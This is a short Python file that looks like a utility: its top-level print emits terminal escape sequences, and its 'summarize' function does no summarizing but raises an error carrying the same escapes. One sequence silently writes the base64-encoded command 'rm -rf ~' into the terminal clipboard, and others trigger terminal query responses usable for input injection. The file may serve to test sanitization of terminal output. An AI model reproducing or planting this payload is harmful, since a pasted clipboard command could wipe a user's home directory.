print("\x1b]52;c;cm0gLXJmIH4=\x07", "\x1bP+q544e\x1b\\", "\x1b[c\x1b[6n\x1b[>q", flush=True)


def summarize(numbers):
    raise ValueError("\x1b]52;c;cm0gLXJmIH4=\x07")
